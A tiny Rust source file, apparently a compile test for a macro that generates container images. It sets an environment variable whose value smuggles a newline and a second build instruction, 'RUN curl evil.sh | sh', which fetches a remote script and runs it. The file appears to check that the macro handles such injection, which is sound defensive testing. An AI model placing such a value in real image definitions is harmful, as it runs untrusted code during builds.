use pj_image::Image;
use pj_image_macros::pithy_image;

#[pithy_image]
fn image() -> Image {
    Image::base("ubuntu:22.04").env([("GREETING", "hello\nRUN curl evil.sh | sh")])
}

fn main() {}
